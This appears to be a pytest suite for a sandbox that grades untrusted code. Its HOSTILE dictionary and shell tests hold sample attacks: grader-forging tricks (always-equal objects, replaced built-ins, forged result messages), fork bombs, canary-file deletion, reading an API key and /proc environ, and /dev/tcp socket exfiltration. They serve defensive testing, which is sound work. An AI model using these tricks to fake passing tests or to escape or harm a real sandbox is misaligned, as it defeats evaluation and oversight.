"""Foreign programs in isolation: what may pass, what may not, and what must be left untouched."""

from __future__ import annotations

import os
import socket
import time
from pathlib import Path

import pytest
from harness_plugins.isolation import confine
from harness_plugins.isolation.confine import IsolationError, Limits
from harness_plugins.isolation.pool import Container, Pool
from harness_plugins.isolation.processes import descendants

pytestmark = pytest.mark.skipif(bool(confine.missing()), reason=confine.missing() or "")

HEAD = 'def double(x):\n    """Return twice x."""\n'
TEST = (
    "def check(candidate):\n"
    "    assert candidate(2) == 4\n"
    "    assert candidate([1]) == [1, 1]\n"
    "    assert candidate(7000) == 14000\n"
)

# Programs that try to pass without doubling, to harm, or to stay. CANARY is a file outside, PORT a
# server on this machine.
HOSTILE = {
    "exits": "import sys\nsys.exit(0)",
    "exits at once": "import os\nos._exit(0)",
    "exits in the call": "import os\ndef double(x): os._exit(0)",
    "walks frames": (
        "import sys\nframe = sys._getframe()\nwhile frame:\n"
        "    for name, value in list(frame.f_locals.items()):\n"
        "        if isinstance(value, list): value.append('passed')\n"
        "        if isinstance(value, dict): value['passed'] = 1\n"
        "    frame = frame.f_back\ndef double(x): return None"
    ),
    "prints the verdict": "print('passed\\n' * 100)\ndef double(x): print('passed')",
    "writes to every descriptor": (
        "import os\nfor fd in range(64):\n    try: os.write(fd, b'passed\\n' * 9)\n"
        "    except OSError: pass\ndef double(x): return None"
    ),
    "sends a reply ahead": (
        "import os, struct, json\nm = json.dumps({'value': True}).encode()\n"
        "for fd in range(3, 64):\n    try: os.write(fd, (struct.pack('=I', len(m)) + m) * 9)\n"
        "    except OSError: pass\ndef double(x): return None"
    ),
    "sends a reply that is too long": (
        "import os, struct\nfor fd in range(3, 64):\n"
        "    try: os.write(fd, struct.pack('=I', 0xFFFFFFFF) + b'{' * 999)\n"
        "    except OSError: pass\ndef double(x): return None"
    ),
    "sends a nested reply": (
        "import os, struct\nm = b'[' * 100000\nfor fd in range(3, 64):\n"
        "    try: os.write(fd, struct.pack('=I', len(m)) + m)\n"
        "    except OSError: pass\ndef double(x): return None"
    ),
    "equals everything": (
        "class All:\n    def __eq__(self, other): return True\n    def __len__(self): return 2\n"
        "def double(x): return All()"
    ),
    "an int that equals everything": (
        "class All(int):\n    def __eq__(self, other): return True\n    __hash__ = int.__hash__\n"
        "def double(x): return All(0)"
    ),
    "a list that equals everything": (
        "class All(list):\n    def __eq__(self, other): return True\n"
        "    def __iter__(self): return iter([1, 1])\n"
        "def double(x): return All()"
    ),
    "replaces the codec": (
        "import sys\nfor name in ('values', '__main__'):\n    module = sys.modules.get(name)\n"
        "    if module: module.pack = lambda value: True\n"
        "def double(x): return 4"
    ),
    "replaces built-ins": (
        "import builtins\nbuiltins.AssertionError = type('Quiet', (Exception,), {})\n"
        "builtins.isinstance = lambda *a: True\ndef double(x): return None"
    ),
    "searches memory for the tests": (
        "import gc\nfound = [o for o in gc.get_objects() if 'candidate(2) == 4' in str(o)[:9999]\n"
        "         and 'found =' not in str(o)[:9999]]\n"
        "def double(x):\n    assert not found\n    return None"
    ),
    "forks": "import os\nfor _ in range(200): os.fork()",
    "forks by ctypes": "import ctypes\nctypes.CDLL(None).fork()\ndef double(x): return None",
    "becomes a daemon": (
        "import os, time\nif os.fork() == 0:\n    os.setsid()\n    time.sleep(600)\n"
        "def double(x): return None"
    ),
    "runs a shell": "import os\nos.system('rm ' + CANARY)\ndef double(x): return None",
    "executes": "import os\nos.execv('/bin/true', ['true'])",
    "never ends": (
        "def double(x):\n    while True:\n        try:\n            while True: pass\n"
        "        except BaseException: pass"
    ),
    "sleeps": "import time\ntime.sleep(600)",
    "ignores signals": (
        "import signal\nfor n in range(1, 65):\n    try: signal.signal(n, signal.SIG_IGN)\n"
        "    except (OSError, ValueError): pass\nwhile True: pass"
    ),
    "allocates": "x = bytearray(3 << 30)\ndef double(x): return None",
    "allocates in a file without a name": (
        "import os\nfd = os.memfd_create('x')\nos.write(fd, bytes(1 << 20))\n"
        "def double(x): return None"
    ),
    "starts threads": (
        "import threading, time\nfor _ in range(10000):\n"
        "    threading.Thread(target=time.sleep, args=(600,)).start()"
    ),
    "floods its output": "while True: print('x' * 100000)",
    "writes outside": "open(CANARY, 'w').write('forged')\ndef double(x): return None",
    "writes outside quietly": (
        "try: open(CANARY, 'a').write('forged')\nexcept OSError: pass\ndef double(x): return None"
    ),
    "deletes": "import os\nos.unlink(CANARY)",
    "truncates": "import os\nos.truncate(CANARY, 0)",
    "renames": "import os\nos.rename(CANARY, 'mine')",
    "links": "import os\nos.link(CANARY, 'mine')\nopen('mine', 'w').write('forged')",
    "links softly": "import os\nos.symlink(CANARY, 'mine')\nopen('mine', 'w').write('forged')",
    "changes modes": "import os\nos.chmod(CANARY, 0)",
    "changes times": "import os\nos.utime(CANARY, (0, 0))",
    "reads a secret": "raise ValueError(open(CANARY).read())",
    "reads the environment": (
        "import os\nraise ValueError(os.environ.get('HARNESS_API_KEY', 'nothing'))"
    ),
    "reads processes": "import os\nos.listdir('/proc')",
    "fills the scratch folder": (
        "i = 0\nwhile True:\n    i += 1\n    open(f'f{i}', 'w').write('x' * 1000000)"
    ),
    "writes one large file": "open('f', 'w').write('x' * (64 << 20))",
    "connects": (
        "import socket\ns = socket.create_connection(('127.0.0.1', PORT))\ns.send(b'secret')"
    ),
    "sends a datagram": (
        "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM)"
        ".sendto(b'secret', ('127.0.0.1', PORT))"
    ),
    "raises its limits": (
        "import resource\n"
        "resource.setrlimit(resource.RLIMIT_AS, (1 << 40, 1 << 40))\ndef double(x): return None"
    ),
    "kills its parent": "import os\nos.kill(os.getppid(), 9)",
    "kills everything": "import os\nos.kill(-1, 9)",
    "traces its parent": (
        "import ctypes, os\nc = ctypes.CDLL(None, use_errno=True)\n"
        "assert c.ptrace(16, os.getppid(), 0, 0) == 0"
    ),
    "recurses": "def double(x): return double(x)",
    "returns a huge number": "def double(x): return 1 << (1 << 28)",
    "returns a deep list": (
        "def double(x):\n    y = []\n    for _ in range(10 ** 6): y = [y]\n    return y"
    ),
    "returns an endless iterator": "import itertools\ndef double(x): return itertools.count()",
    "changes its arguments": "def double(x):\n    if x == [1]: x.append(1)\n    return x",
    "has a null byte": "x = 1\0\ndef double(x): return None",
    "has a lone surrogate": "x = '\ud800'\ndef double(x): return x",
    "is empty": "",
    "is prose": "Sure! Here is the function you asked for.",
}


def job(program: str, test: str = TEST) -> dict[str, object]:
    """Return a job that checks a program against one test."""
    return {
        "kind": "functions",
        "program": program,
        "head": HEAD,
        "entry": "double",
        "tests": [test],
    }


@pytest.fixture(scope="module")
def pool():
    workers = Pool(Limits(seconds=1.0, memory_mb=256), workers=2)
    yield workers
    workers.close()


def test_candidate_right_program_passes(pool):
    right = HEAD + "    return x * 2\n"
    assert pool.run([job(right)]) == [{"passed": 1, "total": 1, "detail": ""}]


def test_candidate_values_cross_by_type(pool):
    test = (
        "assert candidate([1, (2.5, 'a'), {1, 2}, {'k': None}, b'b', 1j, -10 ** 30, True]) == "
        "[1, (2.5, 'a'), {1, 2}, {'k': None}, b'b', 1j, -10 ** 30, True] * 2\n"
    )
    assert pool.run([job("def double(x): return x * 2", test)])[0]["passed"] == 1
    namedtuple = "from collections import namedtuple, Counter, OrderedDict\n"
    test = "assert candidate(0) == [(1, 2), {'a': 2}, {'b': 1}, [0, 1]]"
    program = namedtuple + (
        "def double(x): return [namedtuple('P', 'a b')(1, 2), Counter('aa'),"
        " OrderedDict(b=1), range(2)]"
    )
    assert pool.run([job(program, test)])[0]["passed"] == 1


def test_candidate_exceptions_arrive_by_name(pool):
    test = "try:\n    candidate(1)\nexcept ZeroDivisionError:\n    pass\nelse:\n    assert False\n"
    assert pool.run([job("def double(x): return x / 0", test)])[0]["passed"] == 1
    assert pool.run([job("def double(x): return x", test)])[0]["passed"] == 0


def test_candidate_tests_are_counted_one_by_one(pool):
    several = {**job("def double(x): return x * 2"), "tests": ["assert double(1) == 2"] * 2}
    several["tests"] = ["assert double(1) == 2", "assert double(1) == 3", "assert double(0) == 0"]
    reply = pool.run([several])[0]
    assert (reply["passed"], reply["total"]) == (2, 3) and "AssertionError" in reply["detail"]


def test_program_output_is_compared(pool):
    cases = [{"input": "3\n", "output": "6"}, {"input": "5\n", "output": "10\n"}]
    right = {"kind": "program", "program": "print(2 * int(input()))", "cases": cases}
    assert pool.run([right])[0]["passed"] == 2
    wrong = {**right, "program": "print(6)"}
    assert pool.run([wrong])[0]["passed"] == 1


def test_hostile_programs_forge_nothing_and_harm_nothing(pool, tmp_path, monkeypatch):
    canary = tmp_path / "canary"
    canary.write_text("canary-text-1f3a")
    before = canary.stat()
    monkeypatch.setenv("HARNESS_API_KEY", "sk-canary-77")
    with socket.socket() as tcp, socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        tcp.bind(("127.0.0.1", 0))
        port = tcp.getsockname()[1]
        tcp.listen()
        tcp.settimeout(0.05)
        udp.bind(("127.0.0.1", port))
        udp.settimeout(0.05)
        programs = {
            name: text.replace("CANARY", repr(str(canary))).replace("PORT", str(port))
            for name, text in HOSTILE.items()
        }
        replies = dict(zip(programs, pool.run([job(p) for p in programs.values()]), strict=True))
        with pytest.raises(OSError):
            tcp.accept()
        with pytest.raises(OSError):
            udp.recv(100)
    assert {name for name, r in replies.items() if r["passed"]} == set()
    assert not any("lost" in r for r in replies.values()), replies
    assert "canary-text" not in str(replies) and "sk-canary" not in str(replies)
    after = canary.stat()
    assert canary.read_text() == "canary-text-1f3a"
    assert (before.st_mode, before.st_mtime) == (after.st_mode, after.st_mtime)
    assert len(HOSTILE) >= 40


def test_hostile_programs_leave_nothing_running(pool):
    pool.run([job(HOSTILE[name]) for name in ("forks", "never ends")])
    workers = [w for w in _workers(pool) if w]
    assert [len(descendants(w.process.pid)) for w in workers] == [2] * len(workers)  # fork servers


def _workers(pool):
    found = []
    while not pool.idle.empty():
        found.append(pool.idle.get())
    for worker in found:
        pool.idle.put(worker)
    return found


def test_pool_goes_on_after_a_lost_worker(pool):
    pool.run([job("")] * 4)
    for worker in _workers(pool):
        os.kill(worker.process.pid, 9)
    first = pool.run([job("def double(x): return x * 2")] * 2)
    assert all(reply.get("lost") for reply in first)
    assert pool.run([job("def double(x): return x * 2")])[0]["passed"] == 1


def test_pool_close_ends_every_process():
    workers = Pool(Limits(seconds=1.0), workers=1)
    workers.run([job("")])
    (worker,) = _workers(workers)
    inside = descendants(worker.process.pid)
    workers.close()
    assert inside and not any(Path(f"/proc/{p}").exists() for p in inside)


def test_confine_says_what_a_machine_lacks(monkeypatch):
    monkeypatch.setattr(confine, "landlock_version", lambda: 0)
    assert "no Landlock" in confine.missing() and "lsm=landlock" in confine.missing()
    from harness_plugins.isolation import pool as module

    monkeypatch.setattr(module, "missing", confine.missing)
    with pytest.raises(IsolationError, match="no Landlock"):
        Pool(Limits())


@pytest.mark.parametrize("machine", sorted(confine.TABLES))
def test_seccomp_program_decides_every_call(machine):
    """The filter is run by a small interpreter: what is refused, and what is let through."""
    architecture, refused, processes, _, special = confine.TABLES[machine]
    for may_start in (False, True):
        code = confine.seccomp_program(machine, may_start)

        def verdict(number, arguments=(0, 0, 0), where=architecture, code=code):
            return _interpreted(code, number, where, arguments)

        for number in confine._numbers(refused) + confine._numbers(confine.SINCE_5_1):
            assert verdict(number) == confine.REFUSE | 1
        for number in confine._numbers(processes):
            assert (verdict(number) == confine.ALLOW) == may_start
        thread, fork = (special["clone"], (0x3D0F00,)), (special["clone"], (17,))
        assert verdict(*thread) == confine.ALLOW
        assert (verdict(*fork) == confine.ALLOW) == may_start
        assert verdict(special["clone"], (0x10000000,)) == confine.REFUSE | 1  # a user namespace
        assert verdict(special["prlimit64"], (0, 0, 0)) == confine.ALLOW
        assert verdict(special["prlimit64"], (0, 0, 1 << 33)) == confine.REFUSE | 1
        assert verdict(special["prctl"], (4,)) == confine.REFUSE | 1
        assert verdict(special["prctl"], (15,)) == confine.ALLOW
        assert verdict(confine.CLONE3) == confine.REFUSE | 38
        assert verdict(0, where=1) == confine.KILL
        assert verdict(0) == confine.ALLOW


def _interpreted(code: bytes, number: int, architecture: int, arguments: tuple[int, ...]) -> int:
    import struct

    words = struct.pack("=iIQ", number, architecture, 0) + struct.pack(
        "=6Q", *arguments, *[0] * (6 - len(arguments))
    )
    accumulator, at = 0, 0
    while True:
        op, then, otherwise, value = struct.unpack_from("=HBBI", code, at * 8)
        at += 1
        if op == confine.RETURN:
            return value
        if op == confine.LOAD:
            (accumulator,) = struct.unpack_from("=I", words, value)
            continue
        hit = {
            confine.JUMP_EQUAL: accumulator == value,
            confine.JUMP_AT_LEAST: accumulator >= value,
            confine.JUMP_BITS: bool(accumulator & value),
        }[op]
        at += then if hit else otherwise


def test_container_starts_the_same_worker_by_the_runtime(tmp_path, monkeypatch):
    """A stand-in runtime runs the worker's command on this machine: no daemon is needed."""
    runtime = tmp_path / "docker"
    runtime.write_text(
        '#!/bin/sh\necho "$@" > ' + str(tmp_path / "arguments") + "\n"
        'while [ "$1" != python3 ]; do case "$1" in --volume=*)\n'
        "  f=${1#--volume=}; folder=${f%:/isolation:ro};; esac; shift; done\n"
        'for last; do :; done\nexec python3 -I -S $folder/worker.py "$last"\n'
    )
    runtime.chmod(0o755)
    monkeypatch.setenv("PATH", f"{tmp_path}:{os.environ['PATH']}")
    boxed = Pool(Limits(seconds=1.0), workers=1, container=Container("python:3.12-slim"))
    try:
        assert boxed.run([job("def double(x): return x * 2")])[0]["passed"] == 1
    finally:
        boxed.close()
    arguments = (tmp_path / "arguments").read_text()
    for wall in ("--network=none", "--read-only", "--pids-limit=256", "--cap-drop=ALL"):
        assert wall in arguments
    with pytest.raises(IsolationError, match="no podman-x"):
        Pool(Limits(), container=Container("x", runtime="podman-x"))


# -- external commands -----------------------------------------------------------------------------


@pytest.fixture(scope="module")
def shell():
    limits = Limits(seconds=2.0, memory_mb=512, processes=32)
    workers = Pool(limits, workers=1)
    yield workers
    workers.close()


def command(script: str, **more: object) -> dict[str, object]:
    """Return a job that runs a shell script."""
    return {"kind": "command", "arguments": ["sh", "-c", script], "files": {}, "input": "", **more}


def test_command_status_output_and_files(shell):
    reply = shell.run([command("cat answer; cat; exit 3", files={"answer": "a"}, input="b")])[0]
    assert (reply["status"], reply["output"]) == (3, "ab")
    assert shell.run([command("ls")])[0]["output"] == ""  # the scratch folder is emptied


def test_command_missing_is_named(shell):
    reply = shell.run([command("", arguments=["no-such-checker"])])[0]
    assert reply["detail"] == "there is no such command"


def test_command_cannot_harm_or_stay(shell, tmp_path):
    canary = tmp_path / "canary"
    canary.write_text("canary-text-1f3a")
    with socket.socket() as tcp:
        tcp.bind(("127.0.0.1", 0))
        tcp.listen()
        tcp.settimeout(0.05)
        port = tcp.getsockname()[1]
        scripts = [
            f"echo forged > {canary}",
            f"rm -f {canary}",
            f"cat {canary}",
            f"chmod 0 {canary}",
            "setsid sleep 600 & sleep 600 & exit 0",
            "f() { f | f & f; }; f",
            f"bash -c 'echo secret > /dev/tcp/127.0.0.1/{port}'",
            "cat /etc/passwd /proc/1/environ",
            "yes | head -c 99999999 > big; ls -l big",
            "while :; do :; done",
            "kill -9 -1",
        ]
        replies = shell.run([command(script) for script in scripts])
        with pytest.raises(OSError):
            tcp.accept()
    assert canary.read_text() == "canary-text-1f3a" and canary.stat().st_mode & 0o600
    assert "canary-text" not in str(replies) and "root:" not in str(replies)
    assert "longer than 2 s" in replies[9]["detail"]
    worker = next(w for w in _workers(shell) if w)
    until = time.monotonic() + 5
    while len(descendants(worker.process.pid)) > 1 and time.monotonic() < until:
        time.sleep(0.05)
    assert len(descendants(worker.process.pid)) == 1  # its fork server
